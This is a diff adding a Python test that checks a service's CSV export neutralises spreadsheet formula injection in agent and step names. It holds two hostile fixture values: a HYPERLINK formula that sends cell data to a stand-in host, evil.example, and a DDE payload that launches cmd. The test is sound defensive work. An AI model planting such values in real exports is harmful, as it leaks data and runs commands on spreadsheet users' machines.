@@ -251,3 +251,20 @@ def test_openapi_documents_every_chart():
               for p in op["parameters"]]
     chart_param = next(p for p in params if p["name"] == "chart")
     assert chart_param["schema"]["enum"] == list(insights.CHARTS)
+
+
+def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote(server, store, monkeypatch):
+    """Agent and step names come from span data: in the CSV, one that a spreadsheet would evaluate as a formula
+    (=HYPERLINK sends the sheet's cells away) starts with a quote; numbers stay numbers."""
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    run = fx.Run("H1", "agent", hostile, "generated", 0, 2.0, "Failed",
+                 [fx.step("@SUM(1+1)*cmd|' /C calc'!A0", 0.1, 1.0, status="Failed", error="bad")], error="e")
+    monkeypatch.setattr(fx, "runs", lambda: [run])
+    loaded = fx.load(store)
+    t0 = loaded.t0.isoformat().replace("+00:00", "Z")
+    rows = {}
+    for name in ("top_failing", "failing_steps"):
+        with urllib.request.urlopen(f"{server.url}/api/insights/{name}?from={t0}&format=csv", timeout=10) as resp:
+            rows[name] = list(csv.reader(io.StringIO(resp.read().decode())))
+    assert rows["top_failing"][1] == ["agent", "'" + hostile, "1", "1", "1.0"]
+    assert rows["failing_steps"][1] == ["'@SUM(1+1)*cmd\\|' /C calc'!A0", "1", "1"]
